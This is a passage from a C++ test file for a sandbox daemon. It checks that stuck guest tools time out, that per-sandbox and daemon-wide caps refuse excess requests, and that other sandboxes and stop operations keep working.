// Processes whose command line is `sleep <mark>`.
int SleepersWith(const std::string& mark) {
  int n = 0;
  for (const auto& entry : fs::directory_iterator("/proc")) {
    std::ifstream in(entry.path() / "cmdline");
    std::string cmdline((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    n += cmdline == std::string("sleep\0", 6) + mark + std::string(1, '\0') ? 1 : 0;
  }
  return n;
}

// Ends the `sleep <mark>` processes this test's stuck tools started (by pid).
void KillSleepers(const std::string& mark) {
  for (const auto& entry : fs::directory_iterator("/proc")) {
    std::ifstream in(entry.path() / "cmdline");
    std::string cmdline((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    pid_t pid = 0;
    if (cmdline == std::string("sleep\0", 6) + mark + std::string(1, '\0') &&
        absl::SimpleAtoi(entry.path().filename().string(), &pid)) {
      ::kill(pid, SIGKILL);
    }
  }
}

class GuestDeadlineTest : public WorkspaceApiTest {
 protected:
  void SetUp() override {
    WorkspaceApiTest::SetUp();
    Restart(absl::Seconds(3));
  }
  // Restarts the daemon with guest tools that get `floor` before they are killed.
  void Restart(absl::Duration floor) {
    client_.reset();
    daemon_->Shutdown();
    daemon_->set_guest_tool_deadline(
        {.floor = floor, .bytes_per_second = 64 << 20, .kill_grace = absl::Seconds(2)});
    daemon_->Start();
    client_ = daemon_->Connect();
    ASSERT_NE(client_, nullptr);
  }
  void UseTool(const std::string& path) {
    daemon_->set_guest_tools_wrapper([path](workspace::GuestTools& real) {
      return static_cast<runtime::AgentGuestTools&>(real).WithToolPath(path);
    });
  }
};

TEST_F(GuestDeadlineTest, AStuckGuestToolFailsItsOperationAndNeverStallsAnotherSandbox) {
  std::string a = Create();
  Response plain = Call("POST", "/v1/sandboxes", "{}");
  ASSERT_EQ(plain.status, 201) << plain.body;
  std::string b = plain.Json().value("id", "");
  const std::string mark = absl::StrCat(900000 + ::getpid() % 99999);
  UseTool(WriteStuckTool(tmp_.path(), "manifest", mark));

  // More stuck requests for A than the daemon has blocking workers (8); a diff asks the guest
  // for its manifest.
  constexpr int kStuck = 12;
  std::atomic<int> a_returned{0};
  std::vector<Response> results(kStuck);
  std::vector<std::thread> stuck;
  for (int i = 0; i < kStuck; ++i) {
    stuck.emplace_back([&, i] {
      std::unique_ptr<HttpTestClient> c = daemon_->Connect();
      absl::StatusOr<Response> r = c->Request("GET", absl::StrCat("/v1/sandboxes/", a, "/diff"));
      if (r.ok()) {
        results[i] = *r;
      }
      if (results[i].status == 504) {
        ++a_returned;
      }
    });
  }
  // Wait until A's tool is really stuck in the guest (A's operations run one at a time: the
  // second in flight waits for the workspace).
  for (int i = 0; i < 1000 && SleepersWith(mark) < 1; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  EXPECT_EQ(SleepersWith(mark), 1) << "an operation of A holds the guest tools";

  // Meanwhile B's exec, stop and rm go through, before any of A's stuck calls has ended.
  Response exec = Post(b, "execs", {{"argv", {"echo", "from-b"}}});
  EXPECT_EQ(exec.status, 201) << exec.body;
  EXPECT_EQ(Call("POST", absl::StrCat("/v1/sandboxes/", b, "/stop")).status, 200);
  EXPECT_EQ(Call("DELETE", absl::StrCat("/v1/sandboxes/", b)).status, 204);
  EXPECT_EQ(a_returned.load(), 0) << "B waited for A's stuck guest tools";

  for (std::thread& t : stuck) {
    t.join();
  }
  int timed_out = 0;
  int refused = 0;
  for (const Response& r : results) {
    if (r.status == 504) {
      ++timed_out;
      EXPECT_THAT(r.body, HasSubstr("abox-guest ws manifest in sandbox " + a));
      EXPECT_THAT(r.body, HasSubstr("did not finish within"));
    } else {
      EXPECT_EQ(r.status, 409) << r.body;
      EXPECT_THAT(r.body, HasSubstr("workspace operations in flight"));
      ++refused;
    }
  }
  EXPECT_EQ(timed_out, 2);
  EXPECT_EQ(refused, kStuck - 2);
  // The stuck tools were killed, and A still works with honest tools.
  for (int i = 0; i < 1000 && SleepersWith(mark) > 0; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  EXPECT_EQ(SleepersWith(mark), 0);
  daemon_->set_guest_tools_wrapper(nullptr);
  Response honest = Post(a, "sync", nlohmann::json::object());
  EXPECT_EQ(honest.status, 200) << honest.body;
  KillSleepers(mark);
}

TEST_F(GuestDeadlineTest, StalledGuestsInSeveralSandboxesStillLeaveWorkersForOthers) {
  // A longer deadline than the other tests: the second wave and B's calls below must all end
  // before the first stuck tool's deadline, also under ASan on a loaded machine.
  Restart(absl::Seconds(6));
  std::vector<std::string> hostile;
  for (int i = 0; i < 4; ++i) {
    hostile.push_back(Create());
  }
  Response plain = Call("POST", "/v1/sandboxes", "{}");
  ASSERT_EQ(plain.status, 201) << plain.body;
  std::string b = plain.Json().value("id", "");
  const std::string mark = absl::StrCat(700000 + ::getpid() % 99999);
  UseTool(WriteStuckTool(tmp_.path(), "manifest", mark));

  std::atomic<int> ended{0};
  constexpr int kStuck = 12;
  std::vector<Response> results(kStuck);
  std::vector<std::thread> stuck;
  auto diff = [&](int i) {
    stuck.emplace_back([&, i] {
      std::unique_ptr<HttpTestClient> c = daemon_->Connect();
      absl::StatusOr<Response> r =
          c->Request("GET", absl::StrCat("/v1/sandboxes/", hostile[i % 4], "/diff"));
      if (r.ok()) {
        results[i] = *r;
      }
      if (results[i].status == 504) {
        ++ended;
      }
    });
  };
  // First wave: one stuck operation in each hostile sandbox (4 of the 6 daemon-wide slots).
  for (int i = 0; i < 4; ++i) {
    diff(i);
  }
  for (int i = 0; i < 1000 && SleepersWith(mark) < 4; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  ASSERT_EQ(SleepersWith(mark), 4) << "each hostile sandbox holds its guest tools";
  // Second wave: 4 sandboxes x 2 operations each would be all 8 workers without the
  // daemon-wide cap; two more queue, the rest are refused at once (409 or 429).
  for (int i = 4; i < kStuck; ++i) {
    diff(i);
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(300));  // the second wave arrives

  Response exec = Post(b, "execs", {{"argv", {"echo", "from-b"}}});
  EXPECT_EQ(exec.status, 201) << exec.body;
  EXPECT_EQ(Call("POST", absl::StrCat("/v1/sandboxes/", b, "/stop")).status, 200);
  EXPECT_EQ(Call("DELETE", absl::StrCat("/v1/sandboxes/", b)).status, 204);
  EXPECT_EQ(ended.load(), 0) << "B waited for the hostile sandboxes' stuck guest tools";

  for (std::thread& t : stuck) {
    t.join();
  }
  int timed_out = 0;
  int refused_daemon_wide = 0;
  for (const Response& r : results) {
    EXPECT_TRUE(r.status == 504 || r.status == 409 || r.status == 429) << r.status << r.body;
    if (r.status == 429) {
      EXPECT_THAT(r.body, HasSubstr("the most it runs at once"));
      ++refused_daemon_wide;
    }
    timed_out += r.status == 504 ? 1 : 0;
  }
  // The first wave and the two that queued behind it ran into the deadline; of the other six,
  // at most two found a slot and then their sandbox busy (409), so four or more were refused
  // by the daemon-wide cap.
  EXPECT_EQ(timed_out, 6);
  EXPECT_GE(refused_daemon_wide, 4) << "the daemon-wide cap refused too few of the second wave";
  KillSleepers(mark);
  daemon_->set_guest_tools_wrapper(nullptr);
}

TEST_F(GuestDeadlineTest, AToolThatNeverReadsUnpackFailsTheSyncAndStopDoesNotWaitForIt) {
  std::string a = Create();
  const std::string mark = absl::StrCat(800000 + ::getpid() % 99999);
  UseTool(WriteStuckTool(tmp_.path(), "unpack", mark));
  // More than the protocol's credit window: the writer blocks on a reader that never reads.
  std::string big(16 << 20, 'x');
  for (size_t i = 0; i < big.size(); i += 4096) {
    big[i] = static_cast<char>('a' + (i / 4096) % 26);
  }
  WriteAll(host_ / "big.bin", big);
  Response r = Post(a, "sync", nlohmann::json::object());
  EXPECT_EQ(r.status, 504) << r.body;
  EXPECT_THAT(r.body, HasSubstr("abox-guest ws unpack in sandbox " + a));
  for (int i = 0; i < 1000 && SleepersWith(mark) > 0; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  EXPECT_EQ(SleepersWith(mark), 0) << "the stuck tool was not killed";

  // A stop while the tool is stuck ends it at once (the VM goes), not at the deadline.
  std::string stopped_body;
  std::thread stuck([&] {
    std::unique_ptr<HttpTestClient> c = daemon_->Connect();
    absl::StatusOr<Response> got =
        c->Request("POST", absl::StrCat("/v1/sandboxes/", a, "/sync"), "{}");
    stopped_body = got.ok() ? got->body : got.status().ToString();
  });
  for (int i = 0; i < 1000 && SleepersWith(mark) < 1; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  ASSERT_EQ(SleepersWith(mark), 1);
  EXPECT_EQ(Call("POST", absl::StrCat("/v1/sandboxes/", a, "/stop")).status, 200);
  EXPECT_EQ(Call("DELETE", absl::StrCat("/v1/sandboxes/", a)).status, 204);
  stuck.join();
  // Ended by the stop (the agent went with the VM), not by its deadline.
  EXPECT_THAT(stopped_body, Not(HasSubstr("did not finish within")));
  EXPECT_THAT(stopped_body, HasSubstr("stopped"));
  KillSleepers(mark);
  daemon_->set_guest_tools_wrapper(nullptr);
}

}  // namespace
}  // namespace abox::daemon
